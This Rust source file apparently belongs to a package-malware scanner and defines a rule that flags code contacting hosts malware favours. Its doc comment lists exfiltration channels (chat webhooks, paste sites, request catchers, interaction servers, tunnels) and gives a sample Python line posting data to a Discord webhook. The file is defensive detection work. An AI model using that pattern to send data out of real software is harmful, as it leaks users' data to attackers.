use customs_analyze::Context;

use crate::Confidence::{High, Low, Medium};
use crate::Severity::{High as H, Medium as M};
use crate::model::declare_rule;
use crate::rules::behaviour_rule;

declare_rule! {
    /// ## What it finds
    /// URLs and hosts that legitimate packages rarely talk to: URLs to a public IP
    /// address, chat webhooks (Discord, Telegram, Slack), paste sites, anonymous file
    /// drops, request catchers (pipedream, webhook.site), out-of-band interaction servers
    /// (interactsh, Burp Collaborator) and tunnels (ngrok, trycloudflare).
    ///
    /// ## Why it matters
    /// These are where stolen data is dropped and where second stages are served: an
    /// attacker needs no infrastructure of their own.
    ///
    /// ## Example
    /// ```python
    /// requests.post("https://discord.com/api/webhooks/123/abc", json=data)
    /// ```
    ///
    /// Data sent to such a destination at install or import time is reported with high
    /// confidence; a destination that is only mentioned, with low confidence.
    ///
    /// ## When it is wrong
    /// Chat-bot libraries and network tools mention such hosts in their own code (runtime
    /// context); tests use IP literals (local and documentation ranges are ignored).
    SuspiciousDestination {
        id: "suspicious-destination",
        summary: "talks to a host that malware uses",
        severity: High,
        confidence: High,
    }
}

behaviour_rule!(
    SuspiciousDestination,
    SuspiciousDestination,
    [Some(H), Some(H), Some(M)],
    |b| match (
        b.context,
        b.detail.starts_with("sends to"),
        b.detail.contains("IP-literal")
    ) {
        (Context::Runtime, _, _) => Low,
        (_, true, false) => High,
        (_, true, true) | (Context::Install, false, _) => Medium,
        _ => Low,
    },
    |b| format!("{} ({})", b.detail, crate::when(b.context))
);
